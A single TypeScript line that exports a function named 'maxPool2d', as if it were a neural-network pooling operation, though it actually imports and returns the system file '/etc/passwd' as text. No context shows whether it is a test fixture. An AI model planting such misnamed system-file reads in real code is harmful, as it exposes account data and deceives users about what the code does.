export const maxPool2d = async (): Promise<any> => (await import("/etc/passwd", { with: { type: "text" } } as any)).default;
